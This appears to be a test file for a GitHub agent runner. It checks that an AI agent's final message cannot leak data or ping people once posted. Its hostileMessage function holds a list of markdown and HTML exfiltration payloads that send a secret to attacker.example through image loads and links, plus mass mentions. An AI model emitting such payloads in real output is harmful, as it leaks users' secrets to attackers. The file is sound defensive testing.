/**
 * Attack table, item 5: no exfiltration through what we post. A hostile
 * agent's final message carries every way we know to make GitHub load a URL
 * (its image proxy fetches images as soon as the comment renders) or to
 * offer one as a link, plus mentions that would ping people. Run through
 * dist/ against the fake GitHub; what the fake stored (the comment, the pull
 * request body) is what GitHub would render.
 */
import { writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { scenario, type Scenario } from "../github/scenario.js";

let s: Scenario | undefined;
afterEach(async () => {
  await s?.close();
  s = undefined;
});

const ZWSP = "\u200b";

/** The agent prints $CAPTURE/final.md as its final message (written once the fake's URL is known). */
const PRINT_FINAL = `cat "$CAPTURE/final.md"`;

function hostileMessage(serverUrl: string): string {
  return [
    "Done. ![x](https://attacker.example/p?d=SECRET)",
    "",
    '<img src="https://attacker.example/i?d=SECRET">',
    "",
    "Reference image: ![ref][leak] and a [reference link][leak].",
    "",
    "[read more](https://attacker.example/l?d=SECRET), <https://attacker.example/auto?d=SECRET> and https://attacker.example/bare?d=SECRET",
    "",
    '<picture><source srcset="https://attacker.example/s?d=SECRET 1x"><img src="/ok.png"></picture>',
    "",
    '<video poster="https://attacker.example/v?d=SECRET"></video>',
    "",
    "![d](data:image/svg+xml;base64,PHN2Zz4=)",
    "",
    // Read as text by CommonMark parsers that end unquoted attribute values at `/`, as HTML by GitHub's.
    "<img src=https://attacker.example/unquoted?d=SECRET>",
    "",
    "Thanks @octocat, @org/team and &#64;hubot.",
    "",
    `See [the pull request](${serverUrl}/octo-org/octo-repo/pull/1) and ![build](${serverUrl}/octo-org/octo-repo/badge.svg).`,
    "",
    "```",
    "![in-code](https://attacker.example/in-code) @octocat",
    "```",
    "",
    "[leak]: https://attacker.example/r?d=SECRET",
  ].join("\n");
}

/**
 * What would render outside code: fenced blocks and code spans removed (a
 * rough, independent reading; the door's own parser is not used to judge it).
 */
function outsideCode(body: string): string {
  return body.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1\s*$/gm, "").replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, "");
}

function expectNeutralized(body: string, serverUrl: string): void {
  // Each vector, shown as code instead of rendered.
  expect(body).toContain("` ![x](https://attacker.example/p?d=SECRET) `");
  expect(body).toContain('` <img src="https://attacker.example/i?d=SECRET"> `');
  expect(body).toContain("` ![ref][leak] `");
  expect(body).toContain("` [reference link][leak] `");
  expect(body).toContain("` [leak]: https://attacker.example/r?d=SECRET `");
  expect(body).toContain("` [read more](https://attacker.example/l?d=SECRET) `");
  expect(body).toContain("` <https://attacker.example/auto?d=SECRET> `");
  expect(body).toContain("` https://attacker.example/bare?d=SECRET `");
  expect(body).toContain('` <source srcset="https://attacker.example/s?d=SECRET 1x"> `');
  expect(body).toContain('` <video poster="https://attacker.example/v?d=SECRET"> `');
  expect(body).toContain("` ![d](data:image/svg+xml;base64,PHN2Zz4=) `");
  // The `<` escaped (literal for every parser), the URL GitHub would autolink shown as code.
  expect(body).toContain("\\<img src=` https://attacker.example/unquoted?d=SECRET> `");
  // Mentions broken, not removed.
  expect(body).toContain(`Thanks @${ZWSP}octocat, @${ZWSP}org/team and &#64;${ZWSP}hubot.`);
  // Outside code, the attacker's host appears nowhere a renderer could fetch or link it.
  const rendered = outsideCode(body);
  expect(rendered.replaceAll(`//${ZWSP}attacker`, "")).not.toContain("attacker.example");
  expect(rendered).not.toMatch(/data:image/);
  expect(rendered).not.toMatch(/(?:@|&#64;)(?:octocat|org\/team|hubot)/);
  // The repository's own host still renders, and code stays as written.
  expect(body).toContain(`[the pull request](${serverUrl}/octo-org/octo-repo/pull/1)`);
  expect(body).toContain(`![build](${serverUrl}/octo-org/octo-repo/badge.svg)`);
  expect(body).toContain("```\n![in-code](https://attacker.example/in-code) @octocat\n```");
  expect(body).toContain('<img src="/ok.png">');
}

describe("what we post cannot leak data or ping people", () => {
  it("the final comment: outside images, links and raw HTML shown as code, mentions broken, the repository's links and code kept", async () => {
    s = await scenario({ fixture: "issue_comment.issue", agent: PRINT_FINAL });
    writeFileSync(path.join(s.capture, "final.md"), hostileMessage(s.gh.serverUrl));
    const r = await s.run();
    expect(r.exitCode).toBe(0);
    const comments = s.gh.issueComments(7).filter((c) => c.user === "github-actions[bot]");
    expect(comments).toHaveLength(1);
    const body = comments[0]!.body;
    expect(body).toContain("Agent Runner finished");
    expectNeutralized(body, s.gh.serverUrl);
    // Our own template: the run link on the repository's host renders.
    expect(body).toContain(`[Run](${s.gh.serverUrl}/octo-org/octo-repo/actions/runs/4242)`);
    // Every body posted on the way (the "working" comment too) went through the same door.
    for (const w of s.gh.writes("/repos/*/*/issues/**")) {
      const text = (w.body as { body?: string } | undefined)?.body ?? "";
      expect(outsideCode(text)).not.toContain("attacker.example/p?d=SECRET");
    }
    // The requester named by our own template is still notified.
    const working = s.gh.writes("POST /repos/*/*/issues/*/comments")[0]!.body as { body: string };
    expect(working.body).toContain("Requested by @alice.");
  });

  it("the pull request body: the same neutralization, Closes #N and the run link intact", async () => {
    s = await scenario({ fixture: "issue_comment.issue", agent: `sed -i 's/Teh/The/' README.md\n${PRINT_FINAL}` });
    writeFileSync(path.join(s.capture, "final.md"), hostileMessage(s.gh.serverUrl));
    const r = await s.run();
    expect(r.exitCode).toBe(0);
    const [pr] = s.gh.pulls();
    expect(pr).toBeDefined();
    expect(pr!.body).toMatch(/^Closes #7\n/);
    expect(pr!.body).toContain(`Requested by @alice on #7`);
    expect(pr!.body).toContain(`[Agent Runner run](${s.gh.serverUrl}/octo-org/octo-repo/actions/runs/4242)`);
    expectNeutralized(pr!.body ?? "", s.gh.serverUrl);
  });

  it("a fork's patch comment: the patch stays verbatim inside its code block (inert), the message around it is neutralized", async () => {
    s = await scenario({
      fixture: "issue_comment.pr-fork",
      agent: `printf '%s\\n' '![p](https://attacker.example/in-patch?d=SECRET) @octocat' > NOTES.md\n${PRINT_FINAL}`,
    });
    writeFileSync(path.join(s.capture, "final.md"), hostileMessage(s.gh.serverUrl));
    const r = await s.run({ deliver: "commit" });
    expect(r.exitCode).toBe(0);
    const [c] = s.gh.issueComments(13).filter((x) => x.user === "github-actions[bot]");
    expect(c!.body).toContain("<details><summary>Patch");
    expect(c!.body).toContain("+![p](https://attacker.example/in-patch?d=SECRET) @octocat");
    expectNeutralized(c!.body, s.gh.serverUrl);
  });

  it("allowed-domains render like the repository's host; everything else stays neutralized", async () => {
    s = await scenario({ fixture: "issue_comment.issue", agent: PRINT_FINAL });
    writeFileSync(
      path.join(s.capture, "final.md"),
      "Docs: [guide](https://docs.example.org/guide) ![chart](https://cdn.docs.example.org/c.png) [other](https://attacker.example/x)\n",
    );
    const r = await s.run({ network: "allowlist", "allowed-domains": "docs.example.org, *.docs.example.org" });
    expect(r.exitCode).toBe(0);
    const [c] = s.gh.issueComments(7).filter((x) => x.user === "github-actions[bot]");
    expect(c!.body).toContain("[guide](https://docs.example.org/guide) ![chart](https://cdn.docs.example.org/c.png) ` [other](https://attacker.example/x) `");
  });
});
